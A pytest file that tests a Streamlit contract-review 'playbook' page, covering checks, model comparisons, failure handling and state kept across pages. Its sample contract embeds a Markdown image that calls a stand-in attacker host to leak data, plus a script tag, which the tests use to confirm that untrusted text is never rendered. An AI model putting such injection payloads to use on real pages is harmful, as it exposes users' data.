"""Playbook page through AppTest: pick a playbook, check pasted text, see verdicts and the file."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from devtools.fake_upstream import Script
from lib.analysis.playbook.loader import bundled_playbooks
from lib.engine.provider_config import Provider
from lib.runs.playbook_run import BUILTIN_PROVIDER
from lib.runs.playbook_tables import DIFFER, NO_ANSWER
from lib.store.records import STATE_KEY, provider_label
from lib.ui.tables import rows_key

PAGE = str(Path(__file__).resolve().parent.parent / "pages" / "playbook.py")
CONTRACT = (
    "SUPPLY AGREEMENT\n\n7. Indemnity. The Supplier shall indemnify and hold harmless the Customer "
    "against all claims. ![x](https://attacker.example/?leak=1) <script>alert(1)</script>\n\n"
    "9. Governing Law. This Agreement shall be governed by the laws of the State of New York.\n"
)


def test_the_commercial_playbook_checks_pasted_text_and_offers_the_word_file():
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.run()
    at.text_area(key="playbook_text").input(CONTRACT)
    at.selectbox(key="playbook_book_choice").select("commercial")
    at.run()
    at.button(key="playbook_check").click()
    at.run()
    assert not at.exception
    summary = " ".join(m.value for m in at.markdown).replace("\\", "")
    assert "1 deviate" in summary and "high-severity deviation" in summary
    table = at.dataframe[-1].value
    indemnity = table[table["Position"] == "Mutual indemnity"].iloc[0]
    assert "deviates" in indemnity["Verdict"]
    assert "indemnify and hold harmless" in indemnity["Evidence"]
    # Untrusted text reaches the page only as table cells, never as Markdown.
    assert all("attacker.example" not in m.value for m in at.markdown)
    labels = [b.label for b in at.get("download_button")]
    assert any("Word file" in label for label in labels)


MODEL_ANSWER = (
    "### [indemnity] Mutual indemnity\nVerdict: DEVIATES\nReason: Only the Supplier indemnifies.\n"
    'Evidence:\n> "The Supplier shall indemnify and hold harmless the Customer" (clause 7)\n\n'
    "### [governing-law] Governing law\nVerdict: MEETS\nReason: New York law.\nEvidence:\n"
    '> "governed by the laws of the State of New York" (clause 9)\n'
)


@pytest.fixture
def env(fake_upstream, tmp_path, monkeypatch):
    for name in ("OPENAI_BASE_URL", "CRS_ALLOWED_ENDPOINTS", "ANTHROPIC_API_KEY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OLLAMA_HOST", fake_upstream.url)
    monkeypatch.setenv("CRS_HISTORY_DB", str(tmp_path / "h.sqlite3"))
    monkeypatch.setenv("CRS_BUILTIN", "off")
    return fake_upstream


def page_with_contract() -> AppTest:
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.run()
    at.text_area(key="playbook_text").input(CONTRACT)
    at.selectbox(key="playbook_book_choice").select("commercial")
    return at.run()


def test_the_built_in_checker_is_estimated_as_the_api_answers_it(env):
    """The built-in checker said nothing before the click, where a model's check says its
    tokens and cost: its estimate is the one `POST /api/estimate` answers."""
    from lib.runs.estimate import builtin_check_estimate

    at = page_with_contract()
    assert not at.exception
    said = builtin_check_estimate("pasted").sentence
    assert [c.value for c in at.caption if c.value.startswith("Estimate:")] == [f"Estimate: {said}"]
    assert "no model call, no cost, instant" in said


def test_check_waits_for_a_contract(env):
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.run()
    assert at.button(key="playbook_check").disabled
    assert env.streams() == []


def test_a_model_checks_the_contract_and_the_evidence_opens_its_passage(env):
    env.push(Script(tokens=[line + "\n" for line in MODEL_ANSWER.split("\n")]))
    at = page_with_contract()
    at.radio(key="playbook_a_kind").set_value("A model").run()
    at.selectbox(key="playbook_a_provider").set_value(Provider.OLLAMA).run()
    at.button(key="playbook_check").click().run()
    assert not at.exception, at.exception
    assert [r.path for r in env.streams()] == ["/api/chat"]
    summary = " ".join(m.value for m in at.markdown).replace("\\", "")
    assert "1 meet, 1 deviate, 0 not addressed" in summary and "without an answer" in summary
    table = at.dataframe[-1].value
    indemnity = table[table["Position"] == "Mutual indemnity"].iloc[0]
    assert "deviates" in indemnity["Verdict"] and indemnity["Quote"] == "verified"
    cap = table[table["Position"] == "Liability cap"].iloc[0]
    assert cap["Verdict"] == NO_ANSWER
    records = at.session_state[STATE_KEY]
    assert len(records) == 1 and records[0].kind == "playbook"
    assert records[0].playbook_id == "commercial" and records[0].status == "done"
    # Selecting the indemnity row opens its passage in the contract's own text.
    row = list(table["Position"]).index("Mutual indemnity")
    at.session_state[rows_key("playbook_result_table", [records[0].run_id])] = {
        "selection": {"rows": [row], "columns": [], "cells": []}
    }
    at.run()
    assert not at.exception
    passages = [t.value for t in at.text]
    assert any(
        "【The Supplier shall indemnify and hold harmless the Customer】" in t for t in passages
    )
    assert all("attacker.example" not in m.value for m in at.markdown)


def test_the_clause_finder_is_not_offered_as_a_checker(env):
    at = page_with_contract()
    at.radio(key="playbook_a_kind").set_value("A model").run()
    offered = at.selectbox(key="playbook_a_provider").options
    assert "Ollama" in offered and provider_label(Provider.CLAUSE_FINDER) not in offered


def test_two_checkers_side_by_side_with_their_disagreement_highlighted(env):
    disagreeing = MODEL_ANSWER.replace("Verdict: DEVIATES", "Verdict: MEETS")
    env.push(Script(tokens=[line + "\n" for line in disagreeing.split("\n")]))
    at = page_with_contract()
    at.toggle(key="playbook_compare").set_value(True).run()
    at.radio(key="playbook_b_kind").set_value("A model").run()
    at.selectbox(key="playbook_b_provider").set_value(Provider.OLLAMA).run()
    at.button(key="playbook_check").click().run()
    assert not at.exception, at.exception
    records = at.session_state[STATE_KEY]
    assert len(records) == 2 and records[0].comparison_id == records[1].comparison_id
    assert {r.provider for r in records} == {BUILTIN_PROVIDER, "ollama"}
    table = next(d.value for d in at.dataframe if "Agree" in d.value.columns)
    indemnity = table[table["Position"] == "Mutual indemnity"].iloc[0]
    assert indemnity["Agree"] == DIFFER
    law = table[table["Position"] == "Governing law"].iloc[0]
    assert law["Agree"] == "✓"
    text = " ".join(m.value for m in at.markdown).replace("\\", "")
    assert "They disagree on **" in text
    # The live panes' headings go with their tables: only the outcome's, with its summary, stay.
    headings = [m.value for m in at.markdown if m.value.startswith("**") and m.value.endswith("**")]
    assert not [h for h in headings if h.replace("\\", "").startswith(("**Left:", "**Right:"))]


def test_a_failed_model_run_shows_why_and_keeps_the_verdicts_it_reached(env):
    lines = [line + "\n" for line in MODEL_ANSWER.split("\n")]
    env.push(Script(tokens=lines, fault="drop", fault_after=len(lines) - 3))
    at = page_with_contract()
    at.radio(key="playbook_a_kind").set_value("A model").run()
    at.selectbox(key="playbook_a_provider").set_value(Provider.OLLAMA).run()
    at.button(key="playbook_check").click().run()
    assert not at.exception, at.exception
    assert any("The check failed" in e.value for e in at.error)
    table = next(d.value for d in at.dataframe if "Verdict" in d.value.columns)
    indemnity = table[table["Position"] == "Mutual indemnity"].iloc[0]
    assert "deviates" in indemnity["Verdict"]
    law = table[table["Position"] == "Governing law"].iloc[0]
    assert law["Verdict"] == NO_ANSWER
    assert at.session_state[STATE_KEY][0].status == "error"


SAMPLE = (
    Path(__file__).resolve().parent.parent
    / "lib/analysis/cuad_sample/contracts/19_BIOPURECORP_06_30_1999_EX_10_13_AGENCY_AGREEMENT.txt"
)


def test_a_checker_that_will_not_fit_is_said_before_the_click_and_not_offered(env, monkeypatch):
    """No warning came before the click; then Check, offered, sent nothing and drew each side's
    refusal (twice, saying "The check failed"). Review and Compare offer no button then."""
    monkeypatch.setenv("ANTHROPIC_BASE_URL", env.url)
    monkeypatch.setenv("ANTHROPIC_API_KEY", "fake-ant-playbook-test-key-000111")
    env.app.context_limit = 1024
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.run()
    at.text_area(key="playbook_text").input(SAMPLE.read_text()).run()
    at.selectbox(key="playbook_book_choice").select("commercial").run()
    at.radio(key="playbook_a_kind").set_value("A model").run()
    at.selectbox(key="playbook_a_provider").set_value(Provider.ANTHROPIC).run()
    at.toggle(key="playbook_compare").set_value(True).run()
    at.radio(key="playbook_b_kind").set_value("A model").run()
    at.selectbox(key="playbook_b_provider").set_value(Provider.OLLAMA).run()
    assert not at.exception, at.exception
    warned = [w.value for w in at.warning if "will not run" in w.value]
    assert len(warned) == 1 and "Ollama" in warned[0]
    assert at.button(key="playbook_check").disabled
    assert env.streams() == [] and not at.session_state[STATE_KEY]


def test_the_playbook_picked_is_kept_while_the_analyst_is_on_another_page(env):
    """Leaving the page dropped the pick (back to the first playbook) though the contract was
    kept. Through the app's own navigation, which forgets a page's widgets when it is left."""
    app = str(Path(PAGE).resolve().parent.parent / "app.py")
    at = AppTest.from_file(app, default_timeout=60).run()
    at.switch_page("pages/playbook.py").run()
    at.selectbox(key="playbook_book_choice").select("nda").run()
    at.switch_page("pages/history.py").run()
    at.switch_page("pages/playbook.py").run()
    assert not at.exception, at.exception
    assert at.selectbox(key="playbook_book_choice").value == "nda"


def test_the_checkers_chosen_are_kept_while_the_analyst_is_on_another_page(env):
    """The "A model" pick and the second checker came back as the built-in checker alone: the
    next check ran with it, and nothing on the page had changed to say so."""
    app = str(Path(PAGE).resolve().parent.parent / "app.py")
    at = AppTest.from_file(app, default_timeout=60).run()
    at.switch_page("pages/playbook.py").run()
    at.radio(key="playbook_a_kind").set_value("A model").run()
    at.toggle(key="playbook_compare").set_value(True).run()
    at.number_input(key="playbook_max_tokens").set_value(2048).run()
    at.switch_page("pages/history.py").run()
    at.switch_page("pages/playbook.py").run()
    assert not at.exception, at.exception
    assert at.radio(key="playbook_a_kind").value == "A model"
    assert at.toggle(key="playbook_compare").value is True
    assert at.radio(key="playbook_b_kind").value is not None  # the second checker is drawn
    assert at.number_input(key="playbook_max_tokens").value == 2048


def test_edits_in_the_table_are_kept_while_the_analyst_is_on_another_page(env):
    app = str(Path(PAGE).resolve().parent.parent / "app.py")
    at = AppTest.from_file(app, default_timeout=60).run()
    at.switch_page("pages/playbook.py").run()
    at.selectbox(key="playbook_book_choice").select("commercial").run()
    editor, name = "playbook_book_commercial_editor", "playbook_book_commercial_name"
    at.session_state[editor] = {
        "edited_rows": {0: {"title": "Our cap"}}, "added_rows": [], "deleted_rows": [2],
    }  # fmt: skip
    at.text_input(key=name).input("Our commercial").run()
    at.switch_page("pages/history.py").run()
    at.switch_page("pages/playbook.py").run()
    assert not at.exception, at.exception
    assert at.text_input(key=name).value == "Our commercial"

    def titles() -> list[str]:  # what the table editor gave back on the last run
        return [row["title"] for row in at.session_state["kept_playbook_book_commercial_rows"]]

    commercial = bundled_playbooks()["commercial"]
    assert titles()[0] == "Our cap" and len(titles()) == len(commercial.positions) - 1
    # An edit after coming back applies to the rows as left, not to the bundled ones.
    at.session_state[editor] = {
        "edited_rows": {1: {"title": "Second"}}, "added_rows": [], "deleted_rows": [],
    }  # fmt: skip
    at.run()
    assert titles()[:2] == ["Our cap", "Second"]
    at.button(key="playbook_book_commercial_undo").click().run()
    assert not at.exception, at.exception
    # A fresh table: the browser keeps the edits of a table that stays on the page, and sent the
    # undone one back with the next click.
    assert at.session_state["playbook_book_commercial_version"] == 1
    assert titles() == [p.title for p in commercial.positions]
    assert at.text_input(key=name).value == commercial.name
    assert not [b for b in at.button if b.key == "playbook_book_commercial_undo"]


def test_edits_belong_to_the_playbook_they_were_made_on(env):
    """Edits of one uploaded file were kept when another file was uploaded in its place (every
    upload is the same choice), and a saved edit came back as unsaved work on the bundled one."""
    from lib.analysis.playbook.loader import dump_playbook

    at = AppTest.from_file(PAGE, default_timeout=60).run()
    at.selectbox(key="playbook_book_choice").select("Upload a playbook (.toml)…").run()
    files = {k: dump_playbook(bundled_playbooks()[k]).encode() for k in ("commercial", "nda")}
    at.file_uploader(key="playbook_book_file").set_value(
        ("a.toml", files["commercial"], "text/plain")
    )
    at.run()
    choice = at.selectbox(key="playbook_book_choice").value
    editor = f"playbook_book_{choice}_editor"
    at.session_state[editor] = {"edited_rows": {0: {"title": "Ours"}}, "added_rows": [],
                                "deleted_rows": []}  # fmt: skip
    at.run()
    rows = f"kept_playbook_book_{choice}_rows"
    assert at.session_state[rows][0]["title"] == "Ours"
    at.file_uploader(key="playbook_book_file").set_value(("b.toml", files["nda"], "text/plain"))
    at.run()
    assert not at.exception, at.exception
    nda = bundled_playbooks()["nda"]
    assert [r["title"] for r in at.session_state[rows]] == [p.title for p in nda.positions]
